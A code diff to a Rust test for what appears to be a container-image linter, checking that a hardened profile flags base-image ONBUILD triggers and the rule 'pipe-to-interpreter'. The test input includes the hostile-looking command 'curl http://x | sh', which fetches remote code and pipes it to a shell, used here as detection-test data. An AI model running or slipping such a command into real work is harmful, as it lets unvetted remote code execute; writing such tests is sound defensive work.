@@ -186,10 +186,10 @@ fn attack_90_triggers_of_a_base() {
         let (code, err) = check(&[trigger], "hardened").expect("busybox is here");
         assert!(code == 1 && err.contains(rule), "{trigger}: exit {code}\n{err}");
     }
-    // FIXME: rules that judge the text alone do not see triggers; the image they make is judged, after
-    // they ran.
+    // Before they run.
     let (code, err) =
         check(&["RUN true || curl http://x | sh"], "hardened").expect("busybox is here");
-    assert!(code == 1 && err.contains("history-remote-execution"), "exit {code}\n{err}");
-    assert!(!err.contains("pipe-to-interpreter"), "{err}");
+    assert!(code == 1 && err.contains("pipe-to-interpreter"), "exit {code}\n{err}");
+    assert!(err.contains("ONBUILD of base:1:"), "{err}");
+    assert!(!err.contains("] RUN"), "{err}");
 }
